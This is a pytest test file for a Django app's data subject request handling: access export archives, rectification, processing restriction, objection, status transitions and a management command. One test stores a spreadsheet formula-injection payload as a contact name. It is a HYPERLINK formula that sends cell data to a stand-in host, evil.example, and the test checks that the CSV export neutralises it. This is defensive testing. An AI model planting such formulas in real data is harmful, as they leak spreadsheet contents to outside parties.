from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.utils import timezone

from consent.dsar import (
    DsarError,
    dsar_create,
    dsar_extend,
    dsar_process,
    dsar_reject,
    dsar_verify,
    restriction_lift,
    subject_resolve,
)
from consent.models import DataSubjectRequest, ProcessingRestriction
from consent.selectors import profile_has_consent, profiles_with_consent
from consent.services import consent_record
from crm.models import Contact
from tests.factories import EventFactory, IdentityFactory, ProfileFactory

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture
def person(purposes):
    profile = ProfileFactory(traits={"firstName": "Marit", "lastName": "Oosterhuis"})
    IdentityFactory(profile=profile, kind="email", value="marit@example.org")
    IdentityFactory(profile=profile, kind="phone", value="+31612345671")
    EventFactory(profile=profile, name="Order Completed", properties={"total": 40})
    consent_record(profile=profile, purpose="email_marketing", status="granted", method="web_form")
    return profile


def run(kind, **kwargs):
    request = dsar_create(kind=kind, **kwargs)
    dsar_verify(request=request)
    return dsar_process(request=request)


def test_status_machine_happy_path_is_logged(person, superuser):
    request = dsar_create(kind="access", email="Marit@Example.org", actor=superuser)
    assert request.subject_email == "marit@example.org"
    assert request.due_at == request.received_at + timedelta(days=30)
    dsar_verify(request=request, actor=superuser)
    assert request.status == "verified" and request.profile == person
    dsar_process(request=request, actor=superuser)
    assert request.status == "completed" and request.completed_at
    log = list(request.actions.order_by("created_at", "id").values_list("action", "to_status"))
    assert log == [
        ("created", "received"),
        ("verified", "verified"),
        ("started", "in_progress"),
        ("completed", "completed"),
    ]
    assert set(request.actions.values_list("actor_label", flat=True)) == {"root"}


@pytest.mark.parametrize(
    "steps, message",
    [
        (["process"], "only a verified request"),
        (["verify", "verify"], "cannot become verified"),
        (["reject", "verify"], "it is closed"),
    ],
)
def test_bad_transitions_are_refused_clearly(person, steps, message):
    request = dsar_create(kind="access", email="marit@example.org")
    actions = {
        "verify": lambda: dsar_verify(request=request),
        "process": lambda: dsar_process(request=request),
        "reject": lambda: dsar_reject(request=request, reason="identity not confirmed"),
    }
    with pytest.raises(DsarError, match=message):
        for step in steps:
            actions[step]()


def test_reject_needs_a_reason(person):
    request = dsar_create(kind="access", email="marit@example.org")
    with pytest.raises(DsarError, match="reason"):
        dsar_reject(request=request, reason=" ")


def test_create_refuses_bad_input():
    with pytest.raises(DsarError, match="identify the person"):
        dsar_create(kind="access")
    with pytest.raises(DsarError, match="not a valid") as error:
        dsar_create(kind="access", email="nobody-at-example")
    assert error.value.field == "subject_email"
    with pytest.raises(DsarError, match="corrected values"):
        dsar_create(kind="rectification", email="a@example.org")
    assert not DataSubjectRequest.objects.exists()


def test_extension_with_reason_up_to_two_months(person):
    request = dsar_create(kind="access", email="marit@example.org")
    first_due = request.due_at
    dsar_extend(request=request, days=30, reason="many systems to search")
    assert request.due_at == first_due + timedelta(days=30)
    assert "many systems" in request.extension_reason
    with pytest.raises(DsarError, match="at the latest"):
        dsar_extend(request=request, days=31, reason="more")
    with pytest.raises(DsarError, match="reason"):
        dsar_extend(request=request, days=1, reason="")
    assert request.actions.filter(action="extended").count() == 1


def test_is_overdue_only_while_open(person):
    request = dsar_create(
        kind="access", email="marit@example.org", received_at=timezone.now() - timedelta(days=40)
    )
    assert request.is_overdue
    dsar_reject(request=request, reason="duplicate")
    assert not request.is_overdue


def test_subject_includes_merged_profiles(person):
    merged = ProfileFactory(merged_into=person)
    IdentityFactory(profile=merged, kind="anonymous_id", value="anon-77")
    subject = subject_resolve(dsar_create(kind="access", phone="+31612345671"))
    assert subject.profile_ids == {person.pk, merged.pk}
    assert ("anonymous_id", "anon-77") in subject.identifiers()
    assert {"Marit", "Oosterhuis"} <= subject.names


def test_access_produces_a_zip_with_json_and_csv_per_table(person):
    Contact.objects.create(first_name="Marit", email="marit@example.org", profile=person)
    request = run("access", email="marit@example.org")
    with request.result_file.open("rb") as handle:
        archive = zipfile.ZipFile(io.BytesIO(handle.read()))
    names = set(archive.namelist())
    expected = {"summary.html", "data.json", "profile/profiles.csv", "activity/events.csv"}
    assert expected | {"customer/contacts.csv"} <= names
    data = json.loads(archive.read("data.json"))["data"]
    assert data["profile"]["profiles"][0]["traits"]["lastName"] == "Oosterhuis"
    assert {row["value"] for row in data["profile"]["identities"]} >= {"marit@example.org"}
    assert data["consent"]["consent-records"][0]["status"] == "granted"
    assert data["customer"]["contacts"][0]["email"] == "marit@example.org"
    assert "Order Completed" in archive.read("activity/events.csv").decode()
    assert "log-entries" not in archive.read("data.json").decode()  # the staff's log


def test_access_csv_neutralises_formulas_and_keeps_accents(person):
    Contact.objects.create(
        first_name='=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        last_name="Oostérhuis",
        email="marit@example.org",
        profile=person,
    )
    request = run("access", email="marit@example.org")
    with request.result_file.open("rb") as handle:
        archive = zipfile.ZipFile(io.BytesIO(handle.read()))

    data = archive.read("customer/contacts.csv")
    assert data.startswith(b"\xef\xbb\xbf")  # Excel reads the accents as UTF-8
    (row,) = csv.DictReader(io.StringIO(data.decode("utf-8-sig")))
    assert row["first_name"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    assert row["last_name"] == "Oostérhuis"
    # the machine-readable copy keeps the value as it is stored
    contact = json.loads(archive.read("data.json"))["data"]["customer"]["contacts"][0]
    assert contact["first_name"].startswith("=HYPERLINK")


def test_rectification_corrects_profile_and_contact(person):
    Contact.objects.create(last_name="Oosterhuis", profile=person)
    request = run("rectification", email="marit@example.org", corrections={"lastName": "Jansen"})
    person.refresh_from_db()
    assert person.traits["lastName"] == "Jansen"
    assert Contact.objects.get().last_name == "Jansen"
    assert "lastName" in request.actions.get(action="completed").note
    assert "Jansen" not in request.actions.get(action="completed").note


def test_restriction_removes_the_profile_from_every_purpose_until_lifted(person):
    assert profile_has_consent(person, "email_marketing")
    run("restriction", email="marit@example.org")
    assert ProcessingRestriction.objects.filter(profile=person).exists()
    assert not profiles_with_consent("email_marketing").filter(pk=person.pk).exists()
    assert restriction_lift(profile=person)
    assert profile_has_consent(person, "email_marketing")


def test_objection_withdraws_marketing_end_to_end(person):
    consent_record(profile=person, purpose="analytics", status="granted", method="api")
    run("objection", email="marit@example.org")
    assert not profile_has_consent(person, "email_marketing")
    assert profile_has_consent(person, "analytics")


def test_failed_processing_is_logged_and_can_be_run_again(person, monkeypatch):
    from consent import dsar

    request = dsar_create(kind="access", email="marit@example.org")
    dsar_verify(request=request)

    def broken(*args):
        raise OSError("disk full")

    monkeypatch.setitem(dsar.HANDLERS, "access", broken)
    with pytest.raises(OSError):
        dsar_process(request=request)
    request.refresh_from_db()
    assert request.status == "in_progress"
    assert request.actions.filter(action="failed", note="OSError").exists()
    monkeypatch.undo()
    assert dsar_process(request=request).status == "completed"


def test_dsar_command_creates_verifies_and_runs(person, capsys):
    call_command("dsar", "--kind", "access", "--email", "marit@example.org")
    out = capsys.readouterr().out
    request = DataSubjectRequest.objects.get()
    assert f"request {request.pk}: access completed" in out
    assert request.result_file.path in out


def test_dsar_command_bad_input(person):
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="--email, --phone or --user-id"):
        call_command("dsar", "--kind", "access")
    with pytest.raises(CommandError, match="not a valid"):
        call_command("dsar", "--kind", "access", "--email", "nope")
